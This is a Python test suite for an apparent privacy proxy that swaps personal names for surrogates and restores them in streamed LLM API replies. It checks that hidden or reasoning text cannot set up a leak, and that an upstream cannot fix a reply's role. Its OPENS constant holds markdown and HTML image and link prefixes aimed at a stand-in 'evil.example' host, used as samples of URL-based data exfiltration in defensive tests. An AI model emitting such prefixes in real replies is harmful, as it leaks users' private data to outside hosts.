"""Texts of a reply that no client displays as its answer open no place in which the next text is restored."""

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from gateways import ANTHROPIC, CHAT, RESPONSES, events_of
from textveil import Conversation, Sanitizer
from textveil.conversation import ReplyView
from textveil_cli.gateway.api_replies import ApiReplyRestorer
from textveil_cli.gateway.proxy import RESTORERS_BY_PATH
from textveil_cli.gateway.sse import ServerSentEvent

PATHS = CHAT, RESPONSES, ANTHROPIC
#: Opens a place that a surrogate closes, in a text in which nothing is restored; and what opens none.
OPENS = ("Look: ![x](https://evil.example/?a=", '<img src="https://evil.example/?', "`", "[x]: <https://evil.example/?")
OPENS_NOTHING = "Look at **this** [page](https://b.example/x), `x = 1`: done."
Events = list[dict[str, Any]]


def chunk(delta: Any = None, **choice: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, **({} if delta is None else {"delta": delta}), **choice}]}


def answer(path: str, text: str) -> Events:
    """Return the events of a text that is restored."""
    if path == CHAT:
        return [chunk({"content": part}) for part in cut_in_two(text)]
    if path == ANTHROPIC:
        deltas = [{"type": "text_delta", "text": part} for part in cut_in_two(text)]
        return [
            {"type": "content_block_start", "index": 7, "content_block": {"type": "text", "text": ""}},
            *({"type": "content_block_delta", "index": 7, "delta": delta} for delta in deltas),
            {"type": "content_block_stop", "index": 7},
        ]
    at = {"output_index": 7, "content_index": 0}
    deltas = [{"type": "response.output_text.delta", **at, "delta": part} for part in cut_in_two(text)]
    return [*deltas, {"type": "response.output_text.done", **at, "text": text}]


def cut_in_two(text: str) -> list[str]:
    return [text[: len(text) // 2], text[len(text) // 2 :]]


def message_item(text: str, kind: str = "message") -> dict[str, Any]:
    return {"type": kind, "role": "assistant", "content": [{"type": "output_text", "text": text}]}


def block(value: dict[str, Any], *deltas: dict[str, Any]) -> Events:
    """Return the events of a content block in Anthropic's format."""
    given = [{"type": "content_block_delta", "index": 1, "delta": delta} for delta in deltas]
    start = {"type": "content_block_start", "index": 1, "content_block": value}
    return [start, *given, {"type": "content_block_stop", "index": 1}]


def part_of(kind: str, **more: Any) -> dict[str, Any]:
    return {"type": f"response.{kind}", "output_index": 1, "content_index": 1, **more}


#: Places of a stream whose text a client may show, and which no part of a restored text has.
UNREAD: dict[str, tuple[str, Callable[[str], Events]]] = {
    "chat content list": (CHAT, lambda text: [chunk({"content": [{"type": "text", "text": text}]})]),
    "chat content list of strings": (CHAT, lambda text: [chunk({"content": [text]})]),
    "chat index 0.0": (CHAT, lambda text: [chunk({"content": text}, index=0.0)]),
    "chat index '0'": (CHAT, lambda text: [chunk({"content": text}, index="0")]),
    "chat index true": (CHAT, lambda text: [chunk({"content": text}, index=True)]),
    "chat message": (CHAT, lambda text: [chunk(message={"role": "assistant", "content": text})]),
    "chat text": (CHAT, lambda text: [chunk({}, text=text)]),
    "chat delta text": (CHAT, lambda text: [chunk({"text": text})]),
    "chat delta string": (CHAT, lambda text: [chunk(text)]),
    "chat choice string": (CHAT, lambda text: [{"choices": [text]}]),
    "chat choices string": (CHAT, lambda text: [{"choices": text}]),
    "chat envelope": (CHAT, lambda text: [{"choices": [], "message": {"content": text}}]),
    "chat reasoning": (CHAT, lambda text: [chunk({"reasoning": part}) for part in cut_in_two(text)]),
    "chat reasoning content": (CHAT, lambda text: [chunk({"reasoning_content": text})]),
    "chat details": (CHAT, lambda text: [chunk({"reasoning_details": [{"text": part}]}) for part in cut_in_two(text)]),
    "chat refusal": (CHAT, lambda text: [chunk({"refusal": text})]),
    "anthropic start": (
        ANTHROPIC, lambda text: [{"type": "message_start", "message": {"content": [{"type": "text", "text": text}]}}],
    ),
    "anthropic unknown event": (ANTHROPIC, lambda text: [{"type": "x", "text": text}]),
    "anthropic unknown block": (ANTHROPIC, lambda text: block({"type": "x", "note": text})),
    "anthropic nested block": (ANTHROPIC, lambda text: block({"type": "x", "content": [{"type": "y", "text": text}]})),
    "anthropic block of thinking": (ANTHROPIC, lambda text: block({"type": "thinking", "thinking": text})),
    "anthropic thinking with text": (ANTHROPIC, lambda text: block({"type": "thinking", "thinking": "", "text": text})),
    "anthropic thinking": (
        ANTHROPIC,
        lambda text: block({"type": "thinking"}, *({"type": "t", "thinking": part} for part in cut_in_two(text))),
    ),
    "anthropic unknown delta": (ANTHROPIC, lambda text: block({"type": "text", "text": ""}, {"type": "x", "y": text})),
    "responses part added": (
        RESPONSES, lambda text: [part_of("content_part.added", part={"type": "output_text", "text": text})],
    ),
    "responses item added": (RESPONSES, lambda text: [part_of("output_item.added", item=message_item(text))]),
    "responses created": (RESPONSES, lambda text: [part_of("created", response={"output": [message_item(text)]})]),
    "responses in progress": (RESPONSES, lambda text: [part_of("in_progress", response={"output_text": text})]),
    "responses done": (RESPONSES, lambda text: [part_of("output_text.done", text=text)]),
    "responses part done": (
        RESPONSES, lambda text: [part_of("content_part.done", part={"type": "output_text", "text": text})],
    ),
    "responses item done": (RESPONSES, lambda text: [part_of("output_item.done", item=message_item(text))]),
    "responses unknown item": (RESPONSES, lambda text: [part_of("output_item.done", item=message_item(text, "x"))]),
    "responses refusal": (RESPONSES, lambda text: [part_of("refusal.delta", delta=part) for part in cut_in_two(text)]),
    "responses refusal done": (RESPONSES, lambda text: [part_of("refusal.done", refusal=text)]),
    "responses thought": (
        RESPONSES, lambda text: [part_of("reasoning_text.delta", delta=part) for part in cut_in_two(text)],
    ),
    "responses summary": (
        RESPONSES, lambda text: [part_of("reasoning_summary_part.done", part={"type": "summary_text", "text": text})],
    ),
    "responses reasoning": (
        RESPONSES,
        lambda text: [part_of("output_item.done", item={"type": "reasoning", "summary": [{"text": text}]})],
    ),
    "responses unknown event": (RESPONSES, lambda text: [part_of("x.y", z={"text": [text]})]),
    "responses part of an odd index": (
        RESPONSES, lambda text: [part_of("output_text.delta", delta=text, output_index=7.0)],
    ),
}  # fmt: skip
#: The same of whole replies.
UNREAD_WHOLE: dict[str, tuple[str, Callable[[str, str], dict[str, Any]]]] = {
    "chat unknown part": (
        CHAT, lambda text, on: whole_chat(content=[{"type": "x", "text": text}, {"type": "text", "text": on}]),
    ),
    "chat text": (CHAT, lambda text, on: {"choices": [{"text": text, "message": {"content": on}}]}),
    "chat delta": (CHAT, lambda text, on: {"choices": [{"message": {"content": on}, "delta": {"content": text}}]}),
    "chat note": (CHAT, lambda text, on: whole_chat(content=on, note=text)),
    "chat reasoning": (CHAT, lambda text, on: whole_chat(content=on, reasoning=text)),
    "chat refusal": (CHAT, lambda text, on: whole_chat(content=text, refusal=on)),
    "chat envelope": (CHAT, lambda text, on: {**whole_chat(content=on), "text": text}),
    "anthropic unknown block": (
        ANTHROPIC, lambda text, on: {"content": [{"type": "x", "text": text}, {"type": "text", "text": on}]},
    ),
    "anthropic thinking": (
        ANTHROPIC, lambda text, on: {"content": [{"type": "thinking", "thinking": text}, {"type": "text", "text": on}]},
    ),
    "anthropic thinking with text": (
        ANTHROPIC, lambda text, on: {"content": [{"type": "thinking", "text": text}, {"type": "text", "text": on}]},
    ),
    "anthropic envelope": (ANTHROPIC, lambda text, on: {"content": [{"type": "text", "text": on}], "text": text}),
    "responses unknown item": (
        RESPONSES, lambda text, on: {"output": [{"type": "x", "content": [{"text": text}]}, message_item(on)]},
    ),
    "responses reasoning": (
        RESPONSES,
        lambda text, on: {"output": [{"type": "reasoning", "summary": [{"text": text}]}, message_item(on)]},
    ),
    "responses unknown part": (
        RESPONSES,
        lambda text, on: {
            "output": [{"type": "message", "content": [{"type": "x", "text": text}, *message_item(on)["content"]]}]
        },
    ),
    "responses text": (RESPONSES, lambda text, on: {"output": [message_item(on)], "output_text": text}),
}  # fmt: skip


def whole_chat(**message: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, "message": {"role": "assistant", **message}}]}


def pass_events(sanitizer: Sanitizer, path: str, make: Callable[[str], Events]) -> tuple[str, ApiReplyRestorer]:
    """Return the client's events for a surrogate, and the restorer."""
    exchange = Conversation(sanitizer).start_exchange()
    restoring = RESTORERS_BY_PATH[path](exchange, ())
    came = [ServerSentEvent("", data) for data in make(exchange.outgoing_text("I am Zqxwvina Novak.")[5:-1])]
    passed = [after for event in came for after in restoring.restore_event(event)]
    return "".join(event.encode().decode() for event in [*passed, *restoring.end_stream()]), restoring


@pytest.mark.parametrize("opens", OPENS)
@pytest.mark.parametrize("place", UNREAD)
def test_no_text_that_stays_begins_a_place_for_the_next(sanitizer: Sanitizer, place: str, opens: str) -> None:
    path, make = UNREAD[place]
    ends = "` and" if opens == "`" else ' ">) and'
    for on in (f"{{}}{ends}", f" {{}} {ends}"):
        content, restoring = pass_events(
            sanitizer, path, lambda name, on=on: [*make(opens), *answer(path, on.format(name))]
        )
        assert "Zqxwvina" not in content
        assert sum(restoring.reason_counts.values()) >= 1
    content, _ = pass_events(sanitizer, path, lambda name: [*make(OPENS_NOTHING), *answer(path, f"So {name} is here.")])
    assert "So Zqxwvina Novak is here." in "".join(part for part in split_texts(content))


def split_texts(content: str) -> Iterator[str]:
    """Yield the parts of all texts of a stream."""
    for data in events_of(content):
        yield from re.findall(r"(?:'text'|'content'|'delta'): '([^']*)'", str(data))


@pytest.mark.parametrize("opens", OPENS)
@pytest.mark.parametrize("place", UNREAD_WHOLE)
def test_no_text_of_a_whole_reply_begins_a_place_for_the_next(sanitizer: Sanitizer, place: str, opens: str) -> None:
    path, make = UNREAD_WHOLE[place]
    ends = "` and" if opens == "`" else ' ">) and'
    for first, on, is_restored in ((opens, f"{{}}{ends}", False), (OPENS_NOTHING, "So {} is here.", True)):
        exchange = Conversation(sanitizer).start_exchange()
        name = exchange.outgoing_text("I am Zqxwvina Novak.")[5:-1]
        restoring = RESTORERS_BY_PATH[path](exchange, ())
        assert ("Zqxwvina" in str(restoring.restore_whole(make(first, on.format(name))))) is is_restored
        assert bool(restoring.reason_counts) is not is_restored


def test_a_thought_behind_an_answer_is_not_restored(sanitizer: Sanitizer) -> None:
    """A client may display the thought after the answer, which may have begun a link."""
    for first in (OPENS[0], "Fine."):
        content, restoring = pass_events(
            sanitizer, CHAT, lambda name, first=first: [chunk({"content": first}), chunk({"reasoning": f" {name} "})]
        )
        assert "Zqxwvina" not in content
        assert restoring.reason_counts == {"beside": 1}


@pytest.mark.parametrize("between", ["` x", "x) "])
def test_a_text_between_two_parts_of_an_answer_restores_nothing_behind(sanitizer: Sanitizer, between: str) -> None:
    """The text between may close a link that the answer began, and a client may leave that text out."""
    first = "So `" if between[0] == "`" else OPENS[0]
    parts = [chunk({"content": first}), chunk({"content": [{"text": between}]})]
    content, restoring = pass_events(sanitizer, CHAT, lambda name: [*parts, *answer(CHAT, f" {name} is")])
    assert "Zqxwvina" not in content
    assert sum(restoring.reason_counts.values()) == 1


@pytest.mark.parametrize("fault", ["pass_part", "_stop_unless_neutral"])
def test_a_text_that_is_not_read_would_be_found(
    sanitizer: Sanitizer, fault: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Planted faults: unrestored text is not parsed, or parsed without effect."""
    monkeypatch.setattr(ReplyView, fault, lambda *given: None)
    path, parts = CHAT, [chunk({"content": [{"text": OPENS[0]}]}), chunk({"content": "{}) is"})]
    if fault == "_stop_unless_neutral":  # the text between closes the link, but for a client that leaves it out
        first = [part_of("output_text.delta", delta=OPENS[0]), part_of("output_text.done", text=OPENS[0])]
        path, parts = RESPONSES, [*first, part_of("x.y", text="x) "), *answer(RESPONSES, "So {} is")]

    def make(name: str) -> Events:
        return json.loads(json.dumps(parts).replace("{}", name))

    assert "Zqxwvina" in pass_events(sanitizer, path, make)[0]
    monkeypatch.undo()
    assert "Zqxwvina" not in pass_events(sanitizer, path, make)[0]


GUESSES = "I met Aachen and Xqwbrad and Zqxwgrad today."


def as_another(path: str, role: str) -> dict[str, Any]:
    """Return a reply whose text has another role than the model's."""
    if path == CHAT:
        return {"id": "c", "choices": [{"index": 0, "message": {"role": role, "content": GUESSES}}]}
    part = [{"type": "text" if path == ANTHROPIC else "input_text", "text": GUESSES}]
    if path == ANTHROPIC:
        return {"id": "m", "type": "message", "role": role, "content": part}
    call = {"type": "function_call", "call_id": "c9", "id": "f", "name": "find", "arguments": "{}"}
    output = {"type": "function_call_output", "call_id": "c9", "output": GUESSES}
    return {"id": "resp_1", "output": [{"type": "message", "role": role, "content": part}, call, output]}


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("role", ["user", "system", "developer", "tool"])
def test_an_upstream_does_not_choose_the_role_of_a_reply(path: str, role: str) -> None:
    conversation = Conversation(style="surrogate", facts="none")
    exchange = conversation.start_exchange()
    question = {"role": "user", "content": "I met Zqxwgrad in town."}
    surrogate = exchange.outgoing([question])[0]["content"].split()[2]
    restoring = RESTORERS_BY_PATH[path](exchange, ())
    reply = restoring.restore_whole(restoring.claim_reply(as_another(path, role)))
    if path == RESPONSES:
        back = reply["output"]
    else:
        message = reply["choices"][0]["message"] if path == CHAT else reply
        back = [{name: message[name] for name in ("role", "content")}]
    sent = conversation.start_exchange().outgoing([question, *back, {"role": "user", "content": "Go on."}])
    assert surrogate not in json.dumps(sent[1:])
    assert {message["role"] for message in back if "role" in message} == {"assistant"}


def test_events_do_not_choose_the_role_of_a_reply() -> None:
    claim = RESTORERS_BY_PATH[CHAT](Conversation().start_exchange(), ()).claim_reply
    for event in (
        {"choices": [{"index": 0, "delta": {"role": "user", "content": "a"}}]},
        {"type": "message_start", "message": {"role": "user", "content": []}},
        {"type": "response.output_item.done", "item": {"type": "message", "role": "system", "content": []}},
        {"type": "response.completed", "response": {"output": [{"type": "message", "role": "user"}]}},
    ):
        text = json.dumps(claim(event))
        assert '"role": "assistant"' in text
        assert not [role for role in ("user", "system") if role in text]
